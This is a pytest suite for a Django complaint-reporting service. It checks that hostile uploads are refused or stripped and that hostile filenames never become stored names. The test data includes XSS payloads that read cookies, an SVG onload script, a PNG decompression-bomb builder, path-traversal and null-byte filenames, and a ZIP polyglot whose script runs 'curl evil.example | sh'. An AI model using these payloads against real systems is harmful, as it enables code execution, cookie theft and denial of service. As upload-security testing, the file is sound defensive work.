"""A corpus of hostile uploads (OWASP ASVS 5.0, file handling): each refused or neutralised, and
nothing of a refused filing is written."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django_tenants.utils import tenant_context
from PIL import Image

from complaints.models import Attachment, Report
from tenants.models import Pemda
from tests.complaints.conftest import Api

FORM = {
    "category": "jalan",
    "title": "Jembatan retak di Kali Pesanggrahan",
    "text": "Retakan memanjang di tengah jembatan, truk masih lewat setiap hari.",
    "privacy": "public",
}
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _jpeg(size: tuple[int, int] = (32, 32)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(out, format="JPEG")
    return out.getvalue()


def _png_bomb() -> bytes:
    """A valid PNG header claiming 100,000 x 100,000 pixels (10 gigapixels) over a few bytes of data."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1024))
        + chunk(b"IEND", b"")
    )


def _zip_polyglot() -> bytes:
    """A JPEG with a ZIP archive (holding a script) appended: opens as both."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("run.sh", "#!/bin/sh\ncurl evil.example | sh\n")
    return _jpeg() + archive.getvalue()


REFUSED = {
    "eicar.jpg": EICAR,
    "eicar.pdf": EICAR,
    "script.jpg": b"<script>alert(document.cookie)</script>",
    "html-in-pdf-header.pdf": b"%PDF-1.4\n<html><script>alert(1)</script></html>",
    "bomb.png": _png_bomb(),
    "truncated.jpg": _jpeg()[:40],
    "svg.jpg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "zip.jpg": b"PK\x03\x04" + b"\0" * 64,
}


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_hostile_upload_is_refused_and_nothing_is_filed(api: Api, jakarta: Pemda, name: str) -> None:
    upload = SimpleUploadedFile(name, REFUSED[name], content_type="image/jpeg")
    response = api.post_multipart("/api/v1/reports/", {**FORM, "attachments": [upload]})
    assert response.status_code == 400, (name, response.status_code)
    assert response.json()["attachments"]
    with tenant_context(jakarta):
        assert not Report.objects.filter(title=FORM["title"]).exists()


def _stored(api: Api, jakarta: Pemda, name: str, content: bytes) -> tuple[Attachment, bytes]:
    upload = SimpleUploadedFile(name, content, content_type="image/jpeg")
    response = api.post_multipart("/api/v1/reports/", {**FORM, "attachments": [upload]})
    assert response.status_code == 201, response.content
    with tenant_context(jakarta):
        attachment = Attachment.objects.get(report__tracking_id=response.json()["tracking_id"])
        return attachment, default_storage.open(attachment.file.name).read()


def test_a_polyglot_is_neutralised_the_archive_does_not_survive(api: Api, jakarta: Pemda) -> None:
    attachment, stored = _stored(api, jakarta, "foto.jpg", _zip_polyglot())
    assert attachment.content_type == "image/jpeg"
    assert b"PK\x03\x04" not in stored and b"evil.example" not in stored
    with pytest.raises(zipfile.BadZipFile):
        zipfile.ZipFile(io.BytesIO(stored))


@pytest.mark.parametrize(
    "name", ["../../../etc/passwd.jpg", "..\\..\\windows\\win.ini.jpg", "foto\x00.php.jpg", "a" * 300 + ".jpg"]
)
def test_a_hostile_file_name_never_becomes_the_stored_name(api: Api, jakarta: Pemda, name: str) -> None:
    attachment, _ = _stored(api, jakarta, name.replace("\x00", ""), _jpeg())
    stored_name = attachment.file.name
    assert ".." not in stored_name and "\\" not in stored_name and "passwd" not in stored_name
    assert "win.ini" not in stored_name and ".php" not in stored_name and len(stored_name) < 120
    assert stored_name.endswith(".jpg")


def test_too_many_attachments_are_refused(api: Api, jakarta: Pemda, settings: object) -> None:
    many = [
        SimpleUploadedFile(f"f{i}.jpg", _jpeg(), content_type="image/jpeg")
        for i in range(settings.LAPOR_MAX_ATTACHMENTS + 1)
    ]  # type: ignore[attr-defined]
    response = api.post_multipart("/api/v1/reports/", {**FORM, "attachments": many})
    assert response.status_code == 400
    with tenant_context(jakarta):
        assert not Report.objects.filter(title=FORM["title"]).exists()
